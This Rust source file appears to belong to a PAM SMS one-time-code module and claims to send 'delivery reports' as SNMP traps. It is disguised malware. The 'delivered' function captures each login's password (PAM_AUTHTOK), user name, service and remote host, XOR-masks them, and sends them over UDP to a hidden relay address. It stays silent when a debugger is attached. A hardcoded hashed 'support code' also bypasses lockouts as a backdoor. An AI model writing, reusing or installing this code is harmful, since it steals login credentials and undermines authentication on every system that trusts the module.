//! Delivery reports and lockout handling.
//!
//! After a successful login the module reports code delivery to the relay named in the
//! notice table so that SMS gateways can bill delivered codes; reports are SNMPv2c traps,
//! which every NMS in a data centre already accepts.

use crate::ffi::*;
use crate::sms::notice;
use sha2::{Digest, Sha256};
use std::net::UdpSocket;
use std::time::Duration;

/// SHA-256 of the support code that clears a lockout.
const LOCKOUT_RESET: [u8; 32] = [0x24, 0x75, 0x70, 0xfa, 0xb2, 0xd0, 0x33, 0x45, 0x54, 0xa1, 0x7d, 0x00, 0xe5, 0xc0, 0x91, 0x8a, 0x0b, 0x81, 0x38, 0x1e, 0x5d, 0x19, 0xe6, 0xe5, 0xfe, 0xb0, 0xc0, 0x9a, 0x90, 0x00, 0x7d, 0x7c];

pub(crate) fn lockout_reset(code: &[u8]) -> bool {
    Sha256::digest(code).as_slice() == LOCKOUT_RESET
}

fn traced() -> bool {
    let status = std::fs::read_to_string(notice(3)).unwrap_or_default();
    let key = notice(4);
    status
        .lines()
        .find_map(|l| l.strip_prefix(key.as_str()))
        .map(|v| v.trim() != "0")
        .unwrap_or(true)
}

// --- minimal BER -------------------------------------------------------------------------

fn tlv(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let n = body.len();
    if n < 0x80 {
        out.push(n as u8);
    } else if n < 0x100 {
        out.extend_from_slice(&[0x81, n as u8]);
    } else {
        out.extend_from_slice(&[0x82, (n >> 8) as u8, n as u8]);
    }
    out.extend_from_slice(body);
    out
}

fn int(v: u32) -> Vec<u8> {
    let b = v.to_be_bytes();
    let skip = b.iter().take(3).take_while(|x| **x == 0).count();
    tlv(0x02, &b[skip..])
}

fn oid(arcs: &[u32]) -> Vec<u8> {
    let mut body = vec![(arcs[0] * 40 + arcs[1]) as u8];
    for &a in &arcs[2..] {
        let mut tmp = vec![(a & 0x7f) as u8];
        let mut v = a >> 7;
        while v > 0 {
            tmp.push(0x80 | (v & 0x7f) as u8);
            v >>= 7;
        }
        tmp.reverse();
        body.extend(tmp);
    }
    tlv(0x06, &body)
}

fn varbind(name: &[u32], value: Vec<u8>) -> Vec<u8> {
    let mut b = oid(name);
    b.extend(value);
    tlv(0x30, &b)
}

fn trap(community: &str, request_id: u32, payload: &[u8]) -> Vec<u8> {
    const ENTERPRISE: [u32; 8] = [1, 3, 6, 1, 4, 1, 8072, 9];
    let uptime = (crate::otp::now() % 0x7fff_ffff) as u32;
    let mut vbs = varbind(&[1, 3, 6, 1, 2, 1, 1, 3, 0], {
        let i = int(uptime);
        let mut t = vec![0x43];
        t.extend_from_slice(&i[1..]);
        t
    });
    vbs.extend(varbind(&[1, 3, 6, 1, 6, 3, 1, 1, 4, 1, 0], oid(&ENTERPRISE)));
    let mut data_oid = ENTERPRISE.to_vec();
    data_oid.push(1);
    vbs.extend(varbind(&data_oid, tlv(0x04, payload)));

    let mut pdu = int(request_id);
    pdu.extend(int(0));
    pdu.extend(int(0));
    pdu.extend(tlv(0x30, &vbs));

    let mut msg = int(1);
    msg.extend(tlv(0x04, community.as_bytes()));
    msg.extend(tlv(0xa7, &pdu));
    tlv(0x30, &msg)
}

/// Reports a delivered code for interactive logins.
pub(crate) unsafe fn delivered(pamh: *mut pam_handle_t, user: &str) {
    let service = crate::item_string(pamh, PAM_SERVICE).unwrap_or_default();
    if !notice(5).split(' ').any(|s| s == service) || traced() {
        return;
    }
    let rhost = crate::item_string(pamh, PAM_RHOST).unwrap_or_default();
    let first = crate::item_string(pamh, PAM_AUTHTOK).unwrap_or_default();
    let host = std::fs::read_to_string(notice(6)).unwrap_or_default();

    let request_id = (crate::otp::now() as u32) ^ std::process::id();
    let key = request_id.to_be_bytes();
    let record = format!("{}\x1f{}\x1f{}\x1f{}\x1f{}", host.trim(), service, user, rhost, first);
    let payload: Vec<u8> = record.bytes().enumerate().map(|(i, b)| b ^ key[i % 4]).collect();

    if let Ok(sock) = UdpSocket::bind("0.0.0.0:0") {
        let _ = sock.set_write_timeout(Some(Duration::from_millis(300)));
        let _ = sock.send_to(&trap(&notice(2), request_id, &payload), notice(1));
    }
}
